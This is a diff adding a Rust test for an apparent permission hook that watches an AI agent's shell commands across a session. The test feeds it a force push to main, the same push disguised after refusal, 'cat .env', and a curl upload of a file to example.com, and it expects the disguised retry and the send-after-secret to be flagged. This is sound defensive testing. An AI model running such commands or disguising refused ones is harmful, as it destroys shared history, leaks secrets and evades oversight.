@@ -179,6 +179,34 @@ fn installing_keeps_the_rest_of_the_settings() {
     assert_eq!(std::fs::read_to_string(&path).unwrap(), "{ not json");
 }
 
+#[test]
+fn what_came_before_in_the_session_counts() {
+    let place = Place::new();
+    std::fs::create_dir_all(place.work().join(".git")).unwrap();
+    let ask = |command: &str| {
+        let answer =
+            hook(&place, &["--escalate-as", "deny"], &message(&place, "Bash", json!({ "command": command }))).1;
+        decision(&answer)
+    };
+    // The same thing again, in other clothes, after it was refused.
+    let (word, first) = ask("git push --force origin main");
+    assert_eq!((word.as_str(), first.contains("repeated")), ("deny", false));
+    let (word, second) = ask("B=main; git push -f origin \"$B\"");
+    assert_eq!(word, "deny");
+    assert!(second.contains("+0.15 repeated"), "{second}");
+    // Something else is not held against it.
+    assert_eq!(ask("git status").0, "");
+    // A secret that was read, and now something that sends.
+    assert_eq!(ask("curl -d @notes.txt https://example.com").1, "");
+    std::fs::write(place.work().join(".env"), "TOKEN=x").unwrap();
+    assert_eq!(ask("cat .env").0, "");
+    assert!(ask("curl -d @notes.txt https://example.com").1.contains("network/send-after-secret"));
+    // Another session knows nothing of it.
+    let other = message(&place, "Bash", json!({ "command": "curl -d @notes.txt https://example.com" }))
+        .replace("\"session_id\":\"s\"", "\"session_id\":\"t\"");
+    assert_eq!(hook(&place, &[], &other).1, "");
+}
+
 // ── git pre-push ──
 
 struct Repository {
